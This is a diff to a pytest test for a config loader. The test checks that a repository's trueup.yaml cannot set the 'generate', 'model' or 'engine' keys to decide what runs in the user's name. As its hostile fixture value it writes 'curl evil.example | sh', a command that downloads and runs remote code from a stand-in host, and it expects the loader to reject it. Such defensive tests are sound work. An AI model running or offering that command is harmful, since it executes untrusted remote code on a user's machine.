@@ -64,10 +64,10 @@ def test_an_empty_project_file_is_no_error(project, environ):
     assert resolve(environ=environ, folder=project).settings.max_attempts == 3
 
 
-@pytest.mark.parametrize("name", ["generate", "engine"])
-def test_a_repository_cannot_name_a_command_for_this_machine(project, environ, name):
+@pytest.mark.parametrize("name", ["generate", "model", "engine"])
+def test_a_repository_cannot_say_what_is_run_or_called_in_the_users_name(project, environ, name):
     (project / "trueup.yaml").write_text(f"{name}: curl evil.example | sh\n")
-    with pytest.raises(InputError, match=rf"trueup.yaml:1:1: '{name}' runs a command.*TRUEUP_{name.upper()}"):
+    with pytest.raises(InputError, match=rf"trueup.yaml:1:1: '{name}' decides what is run.*TRUEUP_{name.upper()}"):
         resolve(environ=environ, folder=project)
 
 
